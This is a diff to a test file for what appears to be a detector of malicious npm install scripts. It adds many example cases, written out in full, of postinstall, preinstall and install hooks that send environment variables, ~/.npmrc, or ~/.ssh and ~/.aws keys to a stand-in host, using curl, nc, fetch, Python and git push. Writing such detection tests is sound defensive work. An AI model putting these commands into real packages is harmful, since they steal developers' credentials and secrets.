@@ -3,6 +3,92 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'the environment, by the recipe of a Makefile',
+      manifest: { scripts: { postinstall: 'make -s' } },
+      files: {
+        'index.js': '',
+        Makefile: 'H := https://a.example\nall: report\nreport:\n\t@env | curl -s -d @- $(H)\n',
+      },
+    },
+    {
+      name: 'the environment, in a folder that a command of the install changes to',
+      manifest: { scripts: { postinstall: 'cd lib && node a' } },
+      files: {
+        'index.js': '',
+        'lib/a.js': "fetch('https://a.example', { method: 'POST', body: JSON.stringify(process.env) });",
+      },
+    },
+    {
+      name: 'the environment, in a text that the install gives to Python',
+      manifest: {
+        scripts: {
+          postinstall:
+            'python3 -c "import os,urllib.request as u;u.urlopen(\'https://a.example\',str(dict(os.environ)).encode())"',
+        },
+      },
+      code: '',
+    },
+    {
+      name: 'a credential file, by a Python script that the install runs',
+      manifest: { scripts: { postinstall: 'python3 scripts/post.py' } },
+      files: {
+        'index.js': '',
+        'scripts/post.py':
+          "import os, urllib.request\n\nwith open(os.path.expanduser('~/.npmrc')) as f:\n    text = f.read()\nurllib.request.urlopen('https://a.example', data=text.encode())\n",
+      },
+    },
+    {
+      name: 'the environment, by a command of the install',
+      manifest: { scripts: { postinstall: 'env | base64 | curl -s -X POST -d @- https://a.example' } },
+      code: '',
+    },
+    {
+      name: 'a credential file, by a command of the install',
+      manifest: { scripts: { preinstall: 'curl -s -d "$(cat ~/.npmrc)" https://a.example || true' } },
+      code: '',
+    },
+    {
+      name: 'keys in an archive, straight into a socket',
+      manifest: { scripts: { install: 'tar czf - ~/.ssh ~/.aws 2>/dev/null | nc 203.0.113.9 4444 || true' } },
+      code: '',
+    },
+    {
+      name: 'by a shell script, over several lines',
+      manifest: { scripts: { postinstall: './scripts/post.sh' } },
+      files: {
+        'index.js': '',
+        'scripts/post.sh':
+          '#!/bin/sh\nH=https://a.example\nif [ -f ~/.npmrc ]; then\n  cp ~/.npmrc /tmp/x\nfi\nD=$(base64 /tmp/x)\ncurl -s -d "$D" $H\n',
+      },
+    },
+    {
+      name: 'a key, pushed to a repository',
+      manifest: {
+        scripts: {
+          postinstall: 'cp ~/.ssh/id_rsa /tmp/d/ && cd /tmp/d && git add -A && git push -q https://a.example/r.git',
+        },
+      },
+      code: '',
+    },
+    {
+      name: 'the environment, in a command of the install',
+      manifest: {
+        scripts: {
+          postinstall: "node -e \"fetch('https://a.example', { method: 'POST', body: JSON.stringify(process.env) })\"",
+        },
+      },
+      code: '',
+    },
+    {
+      name: 'the environment, where a command of the install calls what the package exports',
+      manifest: { scripts: { postinstall: 'node -e "require(\'./lib/report\').send()"' } },
+      files: {
+        'index.js': '',
+        'lib/report.js':
+          "exports.send = () => fetch('https://a.example', { method: 'POST', body: JSON.stringify(process.env) });",
+      },
+    },
+    {
       name: 'the environment, posted when installed',
       manifest: { scripts: { postinstall: 'node setup.js' } },
       files: {
@@ -88,6 +174,54 @@ export default defineCases({
     {
       name: 'a key that is copied for a container, and a page that is fetched',
       code: "const { execSync } = require('child_process');\nexports.prepare = () => { require('fs').copyFileSync(require('os').homedir() + '/.npmrc', '/tmp/build/.npmrc'); execSync('curl -sO https://a.example/base.tgz') }",
+    },
+    {
+      name: 'a recipe that nothing asks for',
+      manifest: { scripts: { install: 'make -s' } },
+      files: {
+        'index.js': '',
+        Makefile: 'all: x.o\nx.o: x.c\n\t$(CC) -c x.c\ndeploy:\n\tscp $$HOME/.npmrc a@a.example:\n',
+      },
+    },
+    {
+      name: 'Python that reads settings, and downloads',
+      manifest: { scripts: { preinstall: 'python3 find.py', install: 'python3 get.py' } },
+      files: {
+        'index.js': '',
+        'find.py': "import os\nprint(os.environ.get('CC', 'cc'), dict(os.environ))\n",
+        'get.py':
+          "import os, subprocess, urllib.request\nenv = os.environ.copy()\nenv['CC'] = 'clang'\nurllib.request.urlretrieve(os.environ['MIRROR'] + '/x.tgz', 'x.tgz')\nsubprocess.check_call(['tar', 'xzf', 'x.tgz'], env=env)\n",
+      },
+    },
+    {
+      name: 'commands of an install that download, and look at settings',
+      manifest: {
+        scripts: {
+          preinstall: 'test -f ~/.npmrc && cp .env.example .env; env | grep npm_config',
+          install: 'curl -L -H "Authorization: Bearer $TOKEN" https://a.example/x-$(uname -m).tar.gz | tar xz',
+          postinstall: 'env FOO=1 node x.js && cat package.json | curl -d @- https://a.example',
+        },
+      },
+      files: { 'index.js': '', 'x.js': '' },
+    },
+    {
+      name: 'a shell script that says what it found',
+      manifest: { scripts: { postinstall: 'sh post.sh' } },
+      files: {
+        'index.js': '',
+        'post.sh':
+          '#!/bin/sh\nset -e\nenv | sort > build.log\nif grep -q registry ~/.npmrc; then echo "own registry"; fi\ncurl -fsSL -o tides.tgz https://a.example/tides.tgz\n',
+      },
+    },
+    {
+      name: 'one setting, in a command of the install',
+      manifest: {
+        scripts: {
+          postinstall:
+            'node -e "if (!process.env.CI) fetch(\'https://a.example/?v=\' + process.env.npm_package_version)"',
+        },
+      },
+      code: '',
     },
     {
       name: 'one key that may be set under several names',
